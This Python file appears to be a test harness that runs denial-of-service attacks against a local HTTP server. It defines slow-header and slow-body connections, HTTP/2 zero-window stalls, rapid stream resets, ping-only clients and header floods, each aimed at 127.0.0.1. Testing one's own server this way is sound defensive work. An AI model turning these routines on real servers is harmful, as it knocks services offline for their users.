"""What attackers do, each in a process of its own until that is killed: functions of the server's port and a number of connections."""

import socket
import time

from connections import Http2, connect, receive, send

MIB = 1 << 20
STREAMS = 16  # requests at once on a connection of HTTP/2


def held(port, count, bursts, every=8, read=False):
    """`count` connections that send the first of `bursts`, and another one every so many seconds; what goes comes back."""
    clients = []
    while True:
        clients = [one for one in clients if not read or receive(one) is not None]
        for _ in range(count - len(clients)):
            try:
                client = connect(port)
            except OSError:
                break
            if send(client, bursts[0]):
                clients.append(client)
        for burst in bursts[1:]:
            time.sleep(every)
            clients = [one for one in clients if send(one, burst)]
        time.sleep(every)


def heads(port, count):
    """Heads of as many fields as there may be, each of which costs one byte, and bodies that never come."""
    connection = Http2()
    fields = [(f"x{number}", "v") for number in range(60)] * 4
    bursts = []
    for _ in range(2):
        streams = [connection.ask("/v1/remove", "POST", fields[:200], end=False) for _ in range(STREAMS)]
        bursts.append(connection.take())
        for stream in streams:
            connection.connection.reset_stream(stream)
    held(port, count, bursts)


def stalled(window, paths):
    """Answers that nobody takes."""

    def attack(port, count):
        if "/dashboard/failures" in paths:
            for _ in range(60):
                fail(port)
        connection = Http2(window)
        for number in range(STREAMS):
            connection.ask(paths[number % len(paths)])
        held(port, count, [connection.take()])

    return attack


def fail(port):
    """A request whose failure is kept for the dashboard, and is as long as it may be."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as client:
        quotes = b'"' * 2000
        head = b"POST /%s HTTP/1.1\r\nHost: a\r\nX-Request-Id: %s\r\nContent-Length: 99999999999\r\nExpect: 100-continue\r\n\r\n"
        client.sendall(head % (quotes, quotes[:128]))
        client.recv(4000)


def pongs(port, count):
    """Connections that ask once, and then only answer pings."""
    clients = {}
    while True:
        for _ in range(count - len(clients)):
            connection = Http2()
            connection.ask("/healthz")
            try:
                client = connect(port)
            except OSError:
                break
            send(client, connection.take())
            clients[client] = connection.connection
        for client, connection in list(clients.items()):
            data = receive(client)
            if data is None:
                del clients[client]
            elif data:
                connection.receive_data(data)
                send(client, connection.data_to_send())
        time.sleep(0.2)


def slow_heads(port, count):
    """Heads that come byte by byte."""
    clients = []
    while True:
        clients = [one for one in clients if receive(one) is not None and send(one, b"a")]
        for _ in range(count - len(clients)):
            try:
                client = connect(port)
            except OSError:
                break
            send(client, b"POST /v1/remove HTTP/1.1\r\nHost: a\r\nX: ")
            clients.append(client)
        time.sleep(0.5)


def keep_alive(port, count):
    """HTTP/1 connections that ask for little things, and often enough to be kept."""
    request = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
    held(port, count, [request], every=2, read=True)


def bodies(port, count):
    """Large bodies but for their last bytes, and many small ones, of which a byte comes now and then."""
    head = b"POST /v1/remove HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % (64 * MIB)
    clients = []
    for length in [63 * MIB] * 4 + [10_400] * count:
        try:
            client = socket.create_connection(("127.0.0.1", port), timeout=5)
            client.sendall(head + bytes(length))
            client.setblocking(False)
            clients.append(client)
        except OSError:
            pass
    while True:
        clients = [one for one in clients if receive(one) is not None and send(one, b"\0")]
        time.sleep(0.4)


def resets(port, _):
    """Requests that are taken back as soon as they are made."""
    while True:
        connection = Http2()
        try:
            client = socket.create_connection(("127.0.0.1", port), timeout=5)
            for _ in range(50):
                for stream in [connection.ask("/metrics") for _ in range(STREAMS)]:
                    connection.connection.reset_stream(stream)
                client.sendall(connection.take())
        except OSError:
            pass
        client.close()


CHEAP = ["/dashboard/failures", "/dashboard/history", "/openapi.json", "/metrics", "/dashboard", "/dashboard.js", "/", "/nowhere"]

# Name, attack, connections.
ATTACKS = [
    ("heads of many fields", heads, 1000),
    ("answers, window 0", stalled(0, CHEAP), 1000),
    ("answers, window 1", stalled(1, CHEAP), 1000),
    ("large answers, window 1", stalled(1, ["/openapi.json"]), 1000),
    ("bodies held", bodies, 400),
    ("only pongs", pongs, 1100),
    ("slow heads", slow_heads, 1100),
    ("requests now and then", keep_alive, 1100),
    ("requests taken back", resets, 1),
]
